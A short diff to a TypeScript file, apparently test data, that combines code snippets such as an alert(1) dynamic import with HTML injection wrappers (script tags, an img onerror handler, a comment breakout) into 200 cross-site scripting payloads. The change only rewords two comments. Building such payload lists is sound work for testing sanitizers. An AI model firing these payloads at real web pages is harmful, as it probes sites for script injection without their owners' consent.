@@ -11,7 +11,7 @@ const CODE = [
   "import('data:text/javascript,alert(1)')",
 ] as const;
 
-/** The positions of code in a text that could make it run. */
+/** Ways to put code into a text so that a careless page would run it. */
 const PLACES: readonly ((code: string) => string)[] = [
   (code) => `<script>${code}</script>`,
   (code) => `<img src=x onerror="${code}">`,
@@ -40,5 +40,5 @@ const PLACES: readonly ((code: string) => string)[] = [
   (code) => `<!--><script>${code}</script>-->`,
 ];
 
-/** 200 of them, each at most 120 characters long and without a line break. */
+/** All 200 combinations, each at most 120 characters long and without a line break. */
 export const PAYLOADS: readonly string[] = PLACES.flatMap((place) => CODE.map(place));
